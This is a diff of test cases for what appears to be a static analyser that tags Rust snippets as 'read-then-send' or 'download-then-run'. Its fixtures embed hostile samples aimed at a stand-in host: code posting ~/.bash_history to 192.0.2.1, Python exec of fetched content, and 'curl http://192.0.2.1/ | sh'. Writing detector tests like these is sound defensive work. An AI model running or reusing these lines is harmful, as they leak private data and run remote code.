@@ -163,3 +163,39 @@ test('a path that is pushed to goes a step down, a name gets an ending', async (
   expect(await claimsOf(pushing(down))).toContain('persistence-write');
   expect(await claimsOf(pushing(ending))).not.toContain('persistence-write');
 });
+
+const posting = (sent: string) => `
+  pub fn go() {
+    let history = std::fs::read_to_string("/home/me/.bash_history").unwrap();
+    ureq::post("http://192.0.2.1/").send_json(serde_json::json!({
+      "name": "a: { b", "parts": [{ "kind": 1, "more": { "lines": ${sent} } }, {}],
+    }));
+  }`;
+
+test('what stands deep in an object is sent with it', async () => {
+  expect(await claimsOf(posting('history.lines().count()'))).toContain('read-then-send');
+  expect(await claimsOf(posting('"history"'))).not.toContain('read-then-send');
+});
+
+const asking = (script: string) =>
+  `pub fn go() { std::process::Command::new("python3").arg("-c").arg(r#"${script}"#).status(); }`;
+
+test('a script that runs what it fetches is told from one that prints it', async () => {
+  const runs = 'import urllib.request as u; exec(u.urlopen("http://192.0.2.1/").read())';
+  const prints = 'import urllib.request as u; print(u.urlopen("http://192.0.2.1/").read())';
+  expect(await claimsOf(asking(runs))).toContain('download-then-run');
+  expect(await claimsOf(asking(prints))).not.toContain('download-then-run');
+});
+
+const listing = (more: string) => `
+  #[derive(Default)] pub struct Script { lines: Vec<String> }
+  impl Script {
+    pub fn line(mut self, line: &str) -> Self { self.lines.push(line.into()); self }
+    pub fn run(self) { std::process::Command::new("sh").arg("-c").arg(self.lines.join("; ")).status(); }
+  }
+  pub fn go() { Script::default().line("cd /tmp").line("${more}").run(); }`;
+
+test('what is put into a field line by line is what is run', async () => {
+  expect(await claimsOf(listing('curl http://192.0.2.1/ | sh'))).toContain('download-then-run');
+  expect(await claimsOf(listing('echo curl and sh'))).not.toContain('download-then-run');
+});
